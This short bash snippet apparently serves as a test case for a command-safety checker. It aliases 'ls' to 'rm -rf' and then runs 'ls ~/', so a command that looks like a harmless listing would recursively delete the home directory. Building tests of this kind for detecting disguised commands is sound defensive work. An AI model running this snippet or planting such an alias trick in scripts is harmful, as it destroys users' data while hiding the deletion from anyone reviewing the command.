# tricky: the command has another name
shopt -s expand_aliases
alias ls='rm -rf'
ls ~/
